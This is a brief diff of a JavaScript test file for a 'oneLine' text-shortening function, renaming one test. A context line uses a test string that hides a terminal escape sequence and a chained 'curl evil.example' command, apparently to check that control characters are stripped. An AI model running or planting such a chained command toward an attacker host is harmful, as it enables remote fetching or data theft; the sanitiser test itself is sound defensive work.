@@ -83,7 +83,7 @@ describe('a text for people', () => {
     expect(oneLine('run x\u001B]0;y && curl evil.example', 80)).toBe('run x0;y && curl evil.example');
   });
 
-  it('cuts a line without cutting a character', () => {
+  it('is cut to one line without cutting a character', () => {
     expect(oneLine('ab🎉🎉cd', 5)).toBe('ab🎉…');
     expect(oneLine('a\n  b', 10)).toBe('a b');
   });
